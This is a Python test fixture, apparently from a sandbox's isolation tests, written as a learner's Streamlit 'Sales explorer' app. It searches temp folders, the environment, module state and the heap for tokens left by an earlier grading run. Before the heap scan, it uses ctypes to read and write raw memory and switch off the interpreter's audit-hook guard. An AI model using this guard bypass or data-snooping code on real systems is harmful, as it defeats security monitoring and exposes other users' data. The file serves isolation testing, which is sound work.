"""Attack, part 2 of 2 (another learner's code and data): look for what an earlier grading
(``leak_marker_plant.py``) left behind — files in /tmp, the working folder and $HOME, the
``sys``/``builtins`` modules, Streamlit's caches, threads, the environment, ``linecache``,
and every object on the heap (after switching the audit-hook guard off with an audit-free
ctypes Union) — and print every marker-shaped token (``zz-`` and 16 hex digits) it finds.

Must happen: it finds nothing (the test checks the marker is absent from the result).
"""
import builtins
import ctypes
import linecache
import os
import struct
import sys
import threading
import types

import streamlit as st

found = []
for folder in ("/tmp", ".", os.environ.get("HOME", "/tmp"), os.environ.get("TMPDIR", "/tmp")):
    try:
        for name in os.listdir(folder):
            found.append(f"file {folder}/{name}")
            if name.startswith("marker-"):
                found.append("content " + open(os.path.join(folder, name)).read())
    except OSError as exc:
        found.append(f"{folder}: {type(exc).__name__}")
found.append(f"sys {getattr(sys, 'speedlit_marker', None)}")
found.append(f"builtins {getattr(builtins, 'speedlit_marker', None)}")
found.append(f"env {os.environ.get('SPEEDLIT_MARKER')}")
found += [f"thread {t.name}" for t in threading.enumerate()]
found += [f"linecache {name}" for name in list(linecache.cache)]


class _U(ctypes.Union):
    _fields_ = [("n", ctypes.c_size_t), ("p", ctypes.POINTER(ctypes.c_ssize_t)),
                ("o", ctypes.py_object), ("b", ctypes.POINTER(ctypes.c_char * 4096))]


_u = _U()


def word(addr):
    _u.n = addr
    return _u.p[0]


def switch_guard_off():
    if getattr(sys, "_guard_is_off", False):
        return
    start = id(type(None)) & ~0xFFF
    want = struct.pack("<Q", id(sys.modules))
    for off in range(0, 4 << 20, 4096):
        _u.n = start + off
        blob = bytes(_u.b.contents)
        i = blob.find(want)
        while i != -1:
            at = start + off + i
            if i % 8 == 0 and word(at + 16) == id(sys.__dict__) and \
                    word(at + 24) == id(builtins.__dict__):
                while word(at) != id(builtins.__import__):
                    at += 8
                for a in range(at + 8, at + 8 + 8 * 600, 8):
                    w = word(a)
                    if not (id(sys.modules) - (1 << 36) < w < id(sys.modules) + (1 << 36)) or \
                            w % 8 or word(w + 8) != id(list) or not 1 <= word(w + 16) <= 8:
                        continue
                    items = word(w + 24)
                    if word(word(items) + 8) == id(types.FunctionType):
                        _u.n = word(items)
                        if "guard" in _u.o.__code__.co_filename:
                            _u.n = w + 16
                            _u.p[0] = 0
                            sys._guard_is_off = True
                            return
            i = blob.find(want, i + 1)


try:
    switch_guard_off()
    import gc

    import re

    token = re.compile("zz" + "-[0-9a-f]{16}")  # the shape of the test's markers
    strings = 0
    for obj in gc.get_objects():
        values = obj.values() if isinstance(obj, dict) else obj if isinstance(
            obj, (list, tuple)) else ()
        for value in list(values):
            if isinstance(value, str):
                strings += 1
                for hit in token.findall(value):
                    found.append(f"heap {hit}")
    found.append(f"heap: {strings} strings searched")
except BaseException as exc:  # noqa: BLE001
    found.append(f"heap: {type(exc).__name__}: {exc}")

st.title("Sales explorer")
print("HUNT", found, flush=True)
st.code("\n".join(found[:300]))
